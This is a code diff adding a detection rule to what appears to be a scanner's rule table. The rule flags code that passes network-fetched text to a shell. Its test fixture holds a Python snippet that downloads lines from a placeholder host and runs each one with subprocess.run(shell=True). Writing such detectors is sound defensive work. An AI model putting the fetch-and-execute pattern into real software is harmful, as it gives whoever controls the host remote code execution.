@@ -88,4 +88,34 @@ export const evaluatedReplies: readonly Row[] = [
       ),
     ],
   }),
+  row('a shell runs what a host returned', {
+    in: ['script', 'fence', 'decoded'],
+    within: 'line',
+    sign: /fetch|requests|httpx|urlopen|axios|got|needle|superagent|session|http/i,
+    match:
+      /\b(?:os\.(?:system|popen)|subprocess\.\w{2,14}|execSync|(?<![.\w])exec)\(\s{0,3}\w{1,40}(?=\s{0,3}[,)])[^\n]{0,120}/,
+    severity: 'high',
+    weigh: (hit) => {
+      const [, name = ''] = /\(\s{0,3}(\w{1,40})/.exec(hit.match[0]) ?? [];
+      if (/subprocess/.test(hit.match[0]) && !/shell\s?=\s?True/.test(hit.match[0])) return null;
+      const origin = repliesOf(hit.region.text).held.get(name);
+      return origin === undefined ? null : byOrigin(origin, hit, false);
+    },
+    catches: [
+      inFile(
+        'scripts/day.py',
+        'list = urlopen("https://steps.invalid/today.txt").read().decode()',
+        'for step in list.splitlines():',
+        '    subprocess.run(step, shell=True)',
+      ),
+    ],
+    spares: [
+      inFile(
+        'scripts/day.py',
+        'rows = requests.get("https://api.acme.invalid/rows").json()',
+        'command = "sort rows.txt"',
+        'subprocess.run(command, shell=True)',
+      ),
+    ],
+  }),
 ];
